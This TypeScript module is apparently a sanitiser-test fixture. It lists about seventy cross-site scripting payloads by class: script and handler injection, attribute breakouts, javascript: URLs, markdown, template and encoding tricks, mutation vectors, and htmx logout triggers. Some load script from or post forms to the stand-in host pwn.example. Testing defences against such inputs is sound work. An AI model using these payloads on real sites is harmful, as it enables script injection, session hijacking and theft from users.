/**
 * What people type who want a page to run something of theirs. Whatever of it becomes an element has an id that begins with
 * `pwn`, or leads to pwn.example: that is how it is found. Short, so that they fit into names.
 */
const byClass = {
  tag: [
    "<script id=pwn>alert(1)</script>",
    "<script src=//pwn.example/x></script>",
    "<ScRiPt id=pwn>alert(1)</sCrIpT >",
    "<script/id=pwn>alert(1)</script\t>",
    "<scr<script>ipt id=pwn>alert(1)</script>",
    "<iframe id=pwn srcdoc='<b>1'></iframe>",
    "<object id=pwn data=//pwn.example>",
    "<embed id=pwn src=//pwn.example>",
    "<base id=pwn href=//pwn.example/>",
    "<meta id=pwn http-equiv=refresh content=0>",
    "<link id=pwn rel=stylesheet href=//pwn.example>",
    "<style id=pwn>*{display:none}</style>",
    "<form id=pwn action=//pwn.example><input>",
    "<a id=pwn href=javascript:alert(1)>x</a>",
    "<pwn-element tabindex=1 autofocus>",
    "<plaintext id=pwn>",
  ],
  handler: [
    "<img id=pwn src=x onerror=alert(1)>",
    "<svg id=pwn onload=alert(1)>",
    "<svg/onload=alert(1)//id=pwn",
    "<body id=pwn onload=alert(1)>",
    "<details id=pwn open ontoggle=alert(1)>",
    "<input id=pwn autofocus onfocus=alert(1)>",
    "<video id=pwn><source onerror=alert(1)>",
    "<marquee id=pwn onstart=alert(1)>",
    "<b id=pwn onpointerrawupdate=alert(1)>x",
    "<img id=pwn src onerror=alert`1`>",
  ],
  attribute: [
    '" id=pwn onmouseover=alert(1) x="',
    "' id=pwn onmouseover=alert(1) x='",
    '"><img id=pwn src=x onerror=alert(1)>',
    "'><svg id=pwn onload=alert(1)>",
    "` id=pwn onfocus=alert(1) autofocus x=`",
    "x id=pwn onclick=alert(1) style=x",
    '" autofocus onfocus="alert(1)" id="pwn',
    "--><img id=pwn src=x onerror=alert(1)>",
    "]]><img id=pwn src=x onerror=alert(1)>",
    "</title><svg id=pwn onload=alert(1)>",
    "</textarea><svg id=pwn onload=alert(1)>",
    "</script><svg id=pwn onload=alert(1)>",
    "</template><svg id=pwn onload=alert(1)>",
    "</style></noscript><svg id=pwn onload=1>",
  ],
  scheme: [
    "javascript:alert(1)//pwn",
    "JaVaScRiPt:alert(1)//pwn",
    "java\tscript:alert(1)//pwn",
    "\u0001javascript:alert(1)//pwn",
    "data:text/html,<script id=pwn>1</script>",
    "vbscript:msgbox(1)//pwn",
    "blob:https://pwn.example/1",
    "//pwn.example",
    "view-source:javascript:alert(1)//pwn",
  ],
  markdown: [
    "[x](javascript:alert(1)//pwn)",
    "[x](JaVa&#115;cript:alert(1)//pwn)",
    "[x](data:text/html;base64,cHdu)",
    "![x](https://pwn.example/x.png)",
    '![x](x"onerror="alert(1)"id="pwn)',
    '[x](https://a.example "id=pwn onclick=1")',
    "<javascript:alert(1)//pwn>",
    "[x]: javascript:alert(1)//pwn\n\n[x]",
    '```"><svg id=pwn onload=alert(1)>\n```',
  ],
  template: ["{{constructor.constructor('alert(1)')()}}", "${alert(1)}pwn", "<%= 7*7 %>pwn", "#{7*7}pwn"],
  encoding: [
    "&lt;svg id=pwn onload=alert(1)&gt;",
    "&#60;svg id=pwn onload=alert(1)&#62;",
    "%3Csvg id=pwn onload=alert(1)%3E",
    "\\u003csvg id=pwn onload=alert(1)\\u003e",
    "＜svg id=pwn onload=alert(1)＞",
    "<\u0000script id=pwn>alert(1)</script>",
    "\u202e<svg id=pwn onload=alert(1)>",
    "+ADw-svg id=pwn onload=alert(1)+AD4-",
  ],
  mutation: [
    "<math><mi><style><img id=pwn onerror=1>",
    "<noscript><p title='</noscript><svg id=pwn>'>",
    "<svg><style><img id=pwn src=x onerror=1>",
    "<table><a id=pwn><table>",
    "<select><template><svg id=pwn>",
    "<!--><svg id=pwn onload=alert(1)>-->",
  ],
  htmx: [
    "<b id=pwn hx-get=/logout hx-trigger=load>",
    '" hx-post="/logout" hx-trigger="load" id="pwn',
    "<b id=pwn data-hx-on:load=alert(1)>",
    "<b id=pwn hx-on::load=alert(1)>",
    "<hx-partial id=pwn hx-target=body>x",
  ],
} as const;

export interface Payload {
  kind: string;
  text: string;
}

export const payloads: readonly Payload[] = Object.entries(byClass).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind, text })),
);

/** "16 tag, 10 handler, …" */
export const payloadKinds = Object.entries(byClass)
  .map(([kind, texts]) => `${texts.length} ${kind}`)
  .join(", ");
